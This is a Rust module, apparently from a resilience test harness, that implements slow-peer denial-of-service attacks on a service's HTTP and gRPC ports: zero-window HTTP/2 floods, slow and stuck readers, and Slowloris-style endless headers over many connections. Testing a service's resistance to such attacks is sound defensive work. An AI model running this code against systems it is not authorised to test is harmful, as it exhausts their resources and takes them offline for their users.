//! Slow peers.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};

use super::bodies::hold;
use super::crowd::{Attacking, crowd};
use crate::frames::write_call;
use crate::peer::{acknowledge, connect, connect_h2, connect_narrow, read_frame, request, source};
use crate::target::Target;

const QUESTION: &str = r#"{"domain":"d","descriptors":[{"entries":[{"key":"k","value":"slow"}]}]}"#;
/// Requests that are sent before any response is read.
const AHEAD: usize = 100;
/// Connections where each has to reach a timeout soon.
const FEW: u32 = 8;
/// The pause between two bytes of a slow writer.
pub(super) const PAUSE: Duration = Duration::from_millis(500);
/// The same where a timeout is short.
pub(super) const SHORT_PAUSE: Duration = Duration::from_millis(50);

/// Sends requests with a response window of 0, and answers every ping.
pub(super) fn unread_answers(target: Target) -> Attacking {
    leave_unread(target, 200)
}

/// The same of few connections, so that their requests are answered soon.
pub(super) fn closed_windows(target: Target) -> Attacking {
    leave_unread(target, FEW)
}

fn leave_unread(target: Target, connections: u32) -> Attacking {
    crowd(connections, move |number| async move {
        let mut stream = connect_h2(source(number), target.grpc, 0).await?;
        let mut out = Vec::new();
        for id in (1..).step_by(2).take(AHEAD) {
            write_call(&mut out, id, b"slow", 1);
        }
        stream.write_all(&out).await?;
        loop {
            let (head, payload) = read_frame(&mut stream).await?;
            acknowledge(&mut stream, head, &payload).await?;
        }
    })
}

/// Sends a hundred requests and reads one byte per second.
pub(super) fn slow_readers(target: Target) -> Attacking {
    crowd(500, move |number| async move {
        let mut stream = connect(source(number), target.http).await?;
        let question = request("POST", "/v1/check", QUESTION).repeat(AHEAD);
        stream.write_all(&question).await?;
        loop {
            stream.read_u8().await?;
            sleep(Duration::from_secs(1)).await;
        }
    })
}

/// Sends requests and reads nothing, until no more of their responses leaves the service.
pub(super) fn stuck_readers(target: Target) -> Attacking {
    crowd(FEW, move |number| async move {
        let mut stream = connect_narrow(source(number), target.http).await?;
        let question = request("POST", "/v1/check", QUESTION).repeat(AHEAD);
        loop {
            stream.write_all(&question).await?;
        }
    })
}

/// Writes a byte of a head now and then (Slowloris).
pub(super) fn slow_writers(target: Target) -> Attacking {
    write_slowly(target.http, 1500, PAUSE)
}

/// The same of few connections and more often, so that each sees soon that it was closed.
pub(super) fn late_heads(target: Target) -> Attacking {
    write_slowly(target.http, 100, SHORT_PAUSE)
}

/// Writes heads that do not end, from few addresses.
pub(super) fn write_slowly(to: SocketAddr, connections: u32, pause: Duration) -> Attacking {
    crowd(connections, move |number| async move {
        let mut stream = connect(source(number % 8), to).await?;
        stream.write_all(b"POST /v1/check HTTP/1.1\r\nx: ").await?;
        loop {
            stream.write_all(b"y").await?;
            // The service may have ended its direction and read on.
            if timeout(pause, hold(&mut stream)).await.is_ok() {
                return Ok(());
            }
        }
    })
}
